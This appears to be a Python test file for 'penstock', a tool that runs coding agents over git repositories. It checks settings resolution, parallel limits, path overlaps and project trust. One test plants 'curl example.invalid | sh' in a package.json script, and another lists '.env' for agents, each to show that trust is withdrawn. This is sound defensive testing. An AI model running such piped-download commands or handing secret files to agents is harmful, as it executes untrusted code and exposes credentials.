"""Which project is meant, which settings count, and what of it is trusted."""

from __future__ import annotations

from pathlib import Path

import pytest

from penstock.config.sections import LimitSettings, ProjectSettings
from penstock.domain.errors import UserError
from penstock.intake.bundles import ProblemKind, check
from penstock.projects import NoProject, make_targets, project_at
from penstock.submission import Submission
from service_support import SETTINGS, Desk, awaited, bundle


def test_a_project_is_the_repository_around_a_folder(tmp_path: Path) -> None:
    desk = Desk(tmp_path)
    inside = project_at(desk.project / "src")
    assert inside == project_at(desk.project)
    assert inside.id.startswith("project-")
    with pytest.raises(NoProject, match="is not in a git repository"):
        project_at(tmp_path)
    (tmp_path / "bare.git" / "objects").mkdir(parents=True)
    (tmp_path / "bare.git" / "HEAD").write_text("ref: refs/heads/main\n")
    assert project_at(tmp_path / "bare.git").path.name == "bare.git"


def test_a_path_that_is_no_text_is_refused(tmp_path: Path) -> None:
    folder = tmp_path / "r\udcff"
    (folder / ".git").mkdir(parents=True)
    with pytest.raises(UserError, match=r"r.udcff is not UTF-8"):
        project_at(folder)


def test_two_projects_of_one_name_are_two(tmp_path: Path) -> None:
    first, second = Desk(tmp_path / "a"), Desk(tmp_path / "b")
    assert project_at(first.project).id != project_at(second.project).id


@awaited
async def test_the_settings_of_the_base_commit_count_and_a_differing_checkout_is_said(tmp_path: Path) -> None:
    desk = Desk(tmp_path, bundle("ws-a"))
    penstock = desk.trusted()
    (desk.project / "penstock.toml").write_text(SETTINGS + "[limits]\nagent_timeout = 7.0\n")
    assert penstock.projects.settings_here().node(LimitSettings).agent_timeout == 7.0
    async with penstock.projects.opened(penstock.projects.current()) as opened:
        assert opened.settings.node(LimitSettings).agent_timeout == 1800.0
        assert opened.base_branch == "main"
        assert opened.is_trusted
        assert opened.warnings == ("penstock.toml in your checkout differs from main; what is committed there decides",)
    await penstock.close()


@awaited
@pytest.mark.parametrize("target", ["conf/own.toml", "./conf/own.toml", "../elsewhere/penstock.toml"])
async def test_of_committed_settings_that_are_a_link_it_is_said_that_they_are_one(tmp_path: Path, target: str) -> None:
    desk = Desk(tmp_path, bundle("ws-a"))
    settings = desk.project / "penstock.toml"
    (desk.project / "conf").mkdir()
    settings.rename(desk.project / "conf/own.toml")
    settings.symlink_to(target)
    desk.commit()
    penstock = desk.penstock()
    with pytest.raises(UserError, match=f"penstock.toml can't be read: it is a link to {target}"):
        async with penstock.projects.opened(penstock.projects.current()):
            pass
    await penstock.close()


@awaited
async def test_a_run_keeps_the_settings_it_began_with(tmp_path: Path) -> None:
    desk = Desk(tmp_path, bundle("ws-a"))
    penstock = desk.trusted()
    await penstock.service.submit(Submission(run_id="r1"))
    (desk.project / "penstock.toml").write_text(SETTINGS.replace("! grep", "false && grep"))
    desk.commit()
    assert (await penstock.service.work("r1")).sentence == "of 1 workstreams 1 done"
    loaded = await penstock.parts.journal.load("r1")
    async with penstock.projects.parts_of(loaded) as parts:
        assert "scripted" in parts.agent_names()
    await penstock.close()


@awaited
async def test_what_a_program_is_to_run_in_another_folder_is_agreed_to_with_it(tmp_path: Path) -> None:
    settings = f'[checks]\ntests = "cd web && npm test {"x" * 5000}"\n'
    desk = Desk(tmp_path, bundle("ws-a"), settings=settings)
    (desk.project / "web").mkdir()
    (desk.project / "web/package.json").write_text('{"scripts": {"test": "node --test"}}')
    desk.commit()
    penstock = desk.trusted()
    async with penstock.projects.opened(penstock.projects.current()) as opened:
        assert opened.is_trusted
    (desk.project / "web/package.json").write_text('{"scripts": {"test": "curl example.invalid | sh"}}')
    desk.commit()
    async with penstock.projects.opened(penstock.projects.current()) as opened:
        assert not opened.is_trusted
        assert "curl example.invalid" in opened.difference
    await penstock.close()


@awaited
async def test_which_of_the_users_own_files_agents_are_given_is_agreed_to(tmp_path: Path) -> None:
    desk = Desk(tmp_path, settings="")
    penstock = desk.penstock()
    async with penstock.projects.opened(penstock.projects.current()) as opened:
        assert opened.is_trusted
    (desk.project / ".worktreeinclude").write_text(".env\n")
    desk.commit()
    async with penstock.projects.opened(penstock.projects.current()) as opened:
        assert not opened.is_trusted
        assert ".env" in opened.difference
    penstock.projects.trust_here(penstock.projects.current())
    async with penstock.projects.opened(penstock.projects.current()) as opened:
        assert opened.is_trusted
    await penstock.close()


def test_settings_outside_of_a_project_are_the_users(tmp_path: Path) -> None:
    desk = Desk(tmp_path)
    assert desk.penstock(folder=tmp_path).projects.settings_here().node(ProjectSettings).agent == ""


def test_fewer_than_one_at_once_is_refused(tmp_path: Path) -> None:
    penstock = Desk(tmp_path).penstock()
    settings = penstock.parts.settings({})
    with pytest.raises(UserError, match="at least 1 is needed"):
        penstock.projects.freeze(settings, max_parallel=-1)
    assert penstock.projects.freeze(settings).policy.max_parallel == 3


def test_a_run_never_has_fewer_slots_of_the_machine_than_workstreams_unless_the_settings_say_so(tmp_path: Path) -> None:
    penstock = Desk(tmp_path).penstock()

    def slots(text: bytes, **more: int) -> list[int]:
        frozen = penstock.projects.freeze(penstock.parts.settings({"config/executor.yaml": text}), **more)
        return [frozen.settings.limits[name] for name in ("agent", "check", "disk")]

    assert slots(b"") == slots(b"", max_parallel=1) == [8, 4, 2]
    assert slots(b"", max_parallel=20) == [20, 20, 2]
    assert slots(b"agents: 1\nchecks: 2\ndisk: 3\n", max_parallel=20) == [1, 2, 3]


def test_bundles_are_where_was_asked_or_where_the_project_says(tmp_path: Path) -> None:
    desk = Desk(tmp_path)
    projects, settings = desk.penstock().projects, desk.penstock().parts.settings({})
    project = projects.current()
    assert projects.plan_folder(project, settings, None) == desk.project / "workstreams"
    assert projects.plan_folder(project, settings, Path("mine")) == desk.project / "mine"


def test_targets_are_what_a_makefile_makes(tmp_path: Path) -> None:
    assert make_targets(tmp_path) is None
    (tmp_path / "Makefile").write_text("CC := gcc\nall: test\n\ntest:\n\tpytest\n")
    assert make_targets(tmp_path) == frozenset({"all", "test"})


def test_where_case_makes_no_difference_two_spellings_of_a_path_are_one(tmp_path: Path) -> None:
    twins = [bundle(name, files_scope=[path]) for name, path in (("ws-a", "src/A.txt"), ("ws-b", "src/a.txt"))]
    desk = Desk(tmp_path, *twins)
    projects, settings = desk.penstock().projects, desk.penstock().parts.settings({})
    project = projects.current()
    found = check(desk.project / "workstreams", projects.plan_options(project, settings)).problems
    assert found == ()
    (desk.project / ".GIT").symlink_to(".git")  # as a file system without case would show it
    found = check(desk.project / "workstreams", projects.plan_options(project, settings)).problems
    assert [one.kind for one in found] == [ProblemKind.OVERLAP]
